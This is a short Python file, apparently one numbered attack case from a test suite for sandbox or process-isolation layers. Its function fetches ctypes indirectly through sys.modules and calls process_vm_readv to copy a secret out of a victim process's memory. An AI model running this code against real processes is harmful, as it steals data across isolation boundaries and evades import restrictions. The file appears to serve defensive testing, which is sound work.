# A6: copies another process's memory through process_vm_readv
# Without layers: may succeed
import sys


def attack(facts):
    ctypes = sys.modules["ctypes"]
    text = ctypes.create_string_buffer(33)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(text), 32)
    there = (ctypes.c_size_t * 2)(facts["secret_address"], 32)
    one, none = ctypes.c_ulong(1), ctypes.c_ulong(0)
    ctypes.CDLL(None).process_vm_readv(facts["victim"], here, one, there, one, none)
    return text.value.decode()
